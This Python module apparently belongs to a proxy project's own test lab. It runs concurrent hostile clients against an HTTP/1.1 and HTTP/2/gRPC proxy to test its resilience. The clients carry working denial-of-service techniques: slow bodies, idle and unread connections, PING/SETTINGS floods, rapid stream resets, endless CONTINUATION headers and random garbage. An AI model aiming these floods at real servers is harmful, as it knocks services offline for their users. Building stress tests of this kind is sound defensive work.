"""Clients that do harm to a proxy, in a process of their own: ``python -m lab.http2.attacks HOST:PORT SECONDS``.

All of them at once, each on a thread, again and again until the time is over. It prints how often each has connected.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

import h2.connection
import h2.events
import h2.exceptions

from lab.http2.wire import HELLO, REQUEST
from raykeeper.actors.proxy.etcdpb.rpc_pb2 import PutRequest, RangeRequest, WatchCreateRequest, WatchRequest
from raykeeper.actors.proxy.header_blocks import encode_block
from raykeeper.actors.proxy.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    pack_frame,
)

Connect = Callable[..., socket.socket]
IDLE = 1500
"""Connections that say nothing, or nothing more."""
ADDRESS = "127.0.0.2"
"""They come from here: those who come from elsewhere get past what they keep waiting."""
WIDE = 60
"""Connections of attacks that need memory rather than many..."""
AT_ONCE = 20
"""... and how much each asks for at once."""
WATCHED, WATCHES = 10, 50
"""Connections with watches, and how many there are on each."""
CROWD, PUTS, PUT_BYTES = 40, 3, 1_000_000
"""Connections with complete long puts, of each version of HTTP; how many puts one has by gRPC; and the bytes of a
value."""
CROWD_PAUSE_S = 5.0
CALLS = 4 * WIDE * AT_ONCE + CROWD * (1 + PUTS) + WATCHED * (WATCHES + 1) + IDLE
"""The most that can be under way, those included that have only begun."""
LONG_KEYS = tuple(b"hostile/%d" % number for number in range(8))
"""Keys that have long values before an attack."""


def rpc(stream: int, path: bytes, message: bytes, *, end: bool = True) -> bytes:
    """One call of gRPC."""
    fields = tuple((name, path if name == b":path" else value) for name, value in REQUEST)
    head = pack_frame(HEADERS, END_HEADERS, stream, encode_block(fields))
    return head + pack_frame(DATA, END_STREAM if end else 0, stream, struct.pack(">BL", 0, len(message)) + message)


RANGE = RangeRequest(key=b"hostile/", range_end=b"hostile0").SerializeToString()
WATCH = WatchRequest(create_request=WatchCreateRequest(key=b"hostile/", range_end=b"hostile0")).SerializeToString()


def idle(connect: Connect) -> Iterator[None]:
    """Nothing, or a greeting, and then nothing."""
    says = (b"", HELLO, b"GET / HTTP/1.1\r\n", b"GET /version HTTP/1.1\r\nhost: x\r\n\r\n")
    for number in range(IDLE):
        connect(says[number % len(says)])
        yield


def slow_bodies(connect: Connect) -> Iterator[None]:
    """Half of a value, and then a byte now and then."""
    socks = []
    for _ in range(WIDE):
        head = b"PUT /kv/hostile/slow HTTP/1.1\r\nhost: x\r\ncontent-length: 1500000\r\n\r\n"
        socks.append(connect(head + bytes(750_000)))
        yield
    while True:
        for sock in socks:
            sock.sendall(b"x")
            yield


def unread_pages(connect: Connect) -> Iterator[None]:
    """Long answers that nobody reads, by both versions of HTTP."""
    for _ in range(WIDE):
        connect(b"GET /kv/hostile/?prefix HTTP/1.1\r\nhost: x\r\n\r\n" * AT_ONCE, narrow=True)
        yield
        calls = b"".join(rpc(stream, b"/etcdserverpb.KV/Range", RANGE) for stream in range(1, 2 * AT_ONCE, 2))
        connect(HELLO + calls, narrow=True)
        yield


def unread_values(connect: Connect) -> Iterator[None]:
    """Long values, each read by its key alone, that nobody reads, by both versions of HTTP."""
    for _ in range(WIDE):
        keys = [LONG_KEYS[number % len(LONG_KEYS)] for number in range(AT_ONCE)]
        connect(b"".join(b"GET /kv/%b HTTP/1.1\r\nhost: x\r\n\r\n" % key for key in keys), narrow=True)
        yield
        calls = (
            rpc(2 * number + 1, b"/etcdserverpb.KV/Range", RangeRequest(key=key).SerializeToString())
            for number, key in enumerate(keys)
        )
        connect(HELLO + b"".join(calls), narrow=True)
        yield


class PlainPut:
    """A long put by HTTP/1.1 on a connection of its own."""

    def __init__(self, sock: socket.socket) -> None:
        head = b"PUT /kv/crowd/plain HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n" % PUT_BYTES
        self._sock = sock
        self._rest = memoryview(head + bytes(PUT_BYTES))

    def go_on(self) -> bool:
        """Send what the socket takes; whether there was an answer."""
        with suppress(BlockingIOError):
            self._rest = self._rest[self._sock.send(self._rest) :]
        return bool(self._sock.recv(1 << 16))


class RpcPuts:
    """Long puts by gRPC, as many at once as one connection has; their windows are kept to."""

    def __init__(self, sock: socket.socket) -> None:
        self._sock = sock
        self._h2 = h2.connection.H2Connection()
        self._h2.initiate_connection()
        self._out = memoryview(b"")
        message = PutRequest(key=b"crowd/rpc", value=bytes(PUT_BYTES)).SerializeToString()
        whole = struct.pack(">BL", 0, len(message)) + message
        self._rests: dict[int, memoryview] = {}
        for stream in range(1, 2 * PUTS, 2):
            fields = [(name, b"/etcdserverpb.KV/Put" if name == b":path" else value) for name, value in REQUEST]
            self._h2.send_headers(stream, fields)
            self._rests[stream] = memoryview(whole)
        self._open = set(self._rests)

    def go_on(self) -> bool:
        """Send what windows and socket take; whether all were answered."""
        with suppress(BlockingIOError):
            for event in self._h2.receive_data(self._sock.recv(1 << 16)):
                if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    self._open.discard(event.stream_id)
                    self._rests.pop(event.stream_id, None)
        for stream, rest in list(self._rests.items()):
            room = min(self._h2.local_flow_control_window(stream), self._h2.max_outbound_frame_size, len(rest))
            if room:
                self._h2.send_data(stream, bytes(rest[:room]), end_stream=room == len(rest))
                self._rests[stream] = rest[room:]
                if room == len(rest):
                    del self._rests[stream]
        if not self._out:
            self._out = memoryview(self._h2.data_to_send())
        with suppress(BlockingIOError):
            self._out = self._out[self._sock.send(self._out) :]
        return not self._open


def long_puts(connect: Connect) -> Iterator[None]:
    """A crowd of complete long puts, by both versions of HTTP, and another one when the first is over: what grows is
    the history of two keys, so there is a pause in between."""
    while True:
        crowd: list[PlainPut | RpcPuts] = []
        for _ in range(CROWD):
            for kind in (PlainPut, RpcPuts):
                sock = connect(b"")
                sock.setblocking(False)
                crowd.append(kind(sock))
            yield
        while crowd:
            for put in list(crowd):
                try:
                    over = put.go_on()
                except BlockingIOError:  # no answer yet
                    over = False
                except (OSError, h2.exceptions.ProtocolError):  # it was closed
                    over = True
                if over:
                    crowd.remove(put)
            yield
        until = time.monotonic() + CROWD_PAUSE_S
        while time.monotonic() < until:
            yield


def unread_watches(connect: Connect) -> Iterator[None]:
    """Watches of what others write, whose events nobody reads."""
    for _ in range(WATCHED):
        watches = (rpc(stream, b"/etcdserverpb.Watch/Watch", WATCH, end=False) for stream in range(1, 2 * WATCHES, 2))
        connect(HELLO + b"".join(watches), narrow=True)
        connect(b"GET /kv/hostile/?prefix&watch HTTP/1.1\r\nhost: x\r\n\r\n", narrow=True)
        yield


def pings(connect: Connect) -> Iterator[None]:
    """A flood of frames without use."""
    frames = (pack_frame(PING, 0, 0, bytes(8)) + pack_frame(SETTINGS, 0, 0)) * 500
    sock = connect(HELLO)
    while True:
        sock.sendall(frames)
        yield


def resets(connect: Connect) -> Iterator[None]:
    """Calls that are given up at once."""
    sock = connect(HELLO)
    for begin in range(1, 100_000, 400):
        batch = b""
        for stream in range(begin, begin + 400, 2):
            batch += rpc(stream, b"/etcdserverpb.KV/Range", RANGE) + pack_frame(RST_STREAM, 0, stream, bytes(4))
        sock.sendall(batch)
        yield


def endless_headers(connect: Connect) -> Iterator[None]:
    """A block that goes on in frame after frame, and the head of a request that does the same."""
    begun = pack_frame(HEADERS, 0, 1, b"\x82")
    connect(HELLO + begun + pack_frame(CONTINUATION, 0, 1) * 100)
    connect(b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 10_000)
    yield


def garbage(connect: Connect) -> Iterator[None]:
    """Bytes."""
    dice = random.Random(time.monotonic())
    data = dice.randbytes(dice.randrange(1, 2000))
    connect(HELLO + data if dice.random() < 0.5 else data)
    yield


ATTACKS = (
    idle,
    slow_bodies,
    unread_pages,
    unread_values,
    long_puts,
    unread_watches,
    pings,
    resets,
    endless_headers,
    garbage,
)


def repeat(
    attack: Callable[[Connect], Iterator[None]], address: tuple[str, int], until: float, count: Counter[str]
) -> None:
    """Attack until the time is over; begin again when the port has had enough."""
    while time.monotonic() < until:
        with ExitStack() as stack, suppress(OSError):

            def connect(data: bytes, *, narrow: bool = False) -> socket.socket:
                sock = stack.enter_context(socket.socket())
                sock.settimeout(5)
                sock.bind((ADDRESS, 0))
                if narrow:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sock.connect(address)
                count[attack.__name__] += 1
                sock.sendall(data)
                return sock

            for _ in attack(connect):
                if time.monotonic() > until:
                    break
                time.sleep(0.001)
            else:
                if attack not in (endless_headers, garbage):  # which are over at once; the others hold on
                    time.sleep(max(0.0, until - time.monotonic()))


def main() -> None:
    host, _, port = sys.argv[1].rpartition(":")
    until, count = time.monotonic() + float(sys.argv[2]), Counter[str]()
    threads = [
        threading.Thread(target=repeat, args=(attack, (host, int(port)), until, count), daemon=True)
        for attack in ATTACKS
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(dict(count))


if __name__ == "__main__":
    main()
